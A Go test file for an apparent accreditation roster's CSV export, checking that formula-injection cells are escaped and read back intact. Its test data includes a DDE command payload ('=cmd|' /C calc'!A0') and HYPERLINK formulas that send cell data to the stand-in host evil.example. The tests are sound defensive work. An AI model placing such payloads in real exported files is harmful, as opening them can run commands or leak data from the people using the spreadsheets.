package roster

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"accred/data"
)

var hostileCells = []string{"=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A9)",
	"\t=1+1", "\r=1+1", "'=already quoted", "''+x", "plain", "'quoted", "", "a=b", "Ødegård"}

func TestCSVNeutralisesFormulasAndReadsThemBack(t *testing.T) {
	table := [][]string{{"category", "family_name"}, hostileCells[:2], hostileCells[2:]}
	path := filepath.Join(t.TempDir(), "report.csv")
	if err := WriteFile(path, "csv", table); err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(path)
	r := csv.NewReader(strings.NewReader(string(raw)))
	r.FieldsPerRecord = -1
	written, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range written {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
				t.Errorf("a spreadsheet would run %q", cell)
			}
		}
	}
	if written[1][0] != "'=cmd|' /C calc'!A0" || written[2][6] != "'''+x" || written[2][7] != "plain" || written[2][8] != "'quoted" {
		t.Errorf("written as %q", written)
	}
	back, _, err := readTable(path)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, table) {
		t.Fatalf("read back as\n%q\nwant\n%q", back, table)
	}
	if err := WriteFile(path, "csv", table); data.ErrorCode(err) != data.ECONFLICT {
		t.Fatalf("an existing file: %v", err)
	}
}

func TestEscapeFormulaRoundTrips(t *testing.T) {
	for _, cell := range hostileCells {
		for _, c := range []string{cell, "'" + cell, "''" + cell} {
			if got := UnescapeFormula(EscapeFormula(c)); got != c {
				t.Errorf("%q came back as %q", c, got)
			}
		}
	}
}

func TestImportReadsNeutralisedCellsAsWritten(t *testing.T) {
	person := []string{"delegate", `=HYPERLINK("http://evil.example","Ms")`, "-Jean", "@Dupont", "+FR", "FR", "FR", "'=1"}
	table := [][]string{{"category", "title", "given_name", "family_name", "position", "nationality", "delegation", "document_number"}, person}
	path := filepath.Join(t.TempDir(), "people.csv")
	if err := WriteFile(path, "csv", table); err != nil {
		t.Fatal(err)
	}
	rows, err := Read(path)
	if err != nil || len(rows) != 1 {
		t.Fatalf("%v %v", rows, err)
	}
	in := rows[0].Input
	got := []string{in.Category, in.Title, in.GivenName, in.FamilyName, in.Position, in.Nationality, in.Delegation, in.DocumentNumber}
	if !reflect.DeepEqual(got, person) {
		t.Fatalf("read back as %q, want %q", got, person)
	}
}
